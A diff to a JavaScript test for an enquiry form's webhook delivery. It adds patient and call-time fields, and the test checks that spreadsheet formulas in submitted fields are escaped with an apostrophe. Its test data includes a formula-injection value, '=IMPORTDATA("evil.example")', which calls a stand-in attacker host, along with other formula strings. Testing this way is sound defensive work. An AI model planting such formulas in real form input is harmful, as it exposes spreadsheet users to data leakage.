@@ -35,13 +35,19 @@ it('posts an enquiry as a form, with its reference, and no spreadsheet formula',
   const endpoint = await webhook((response) => response.end('ok'));
   const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url });
   const formula = '=IMPORTDATA("evil.example")';
-  const written = { firstName: formula, subject: '＝1+1', helpyou: 'Hello\n@SUM(A1)' };
+  const written = {
+    firstName: formula,
+    subject: '＝1+1',
+    helpyou: 'Hello\n@SUM(A1)',
+    patient: 'child',
+    callTime: 'evening',
+  };
   const reference = await send(api, written);
   await until(delivered(api, reference));
   // An apostrophe, which spreadsheets do not show, keeps it text.
   const fields = {
     ...{ FirstName: `'${formula}`, LastName: 'Rao', Email: 'asha@example.org', Phone: "'+91 98765 43210" },
-    ...{ Subject: `'＝1+1`, Helpyou: `Hello\n'@SUM(A1)` },
+    ...{ Subject: `'＝1+1`, Helpyou: `Hello\n'@SUM(A1)`, Patient: 'child', CallTime: 'evening' },
     Timestamp: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
   };
   expect(endpoint.received).toEqual([{ idempotencyKey: reference, fields }]);
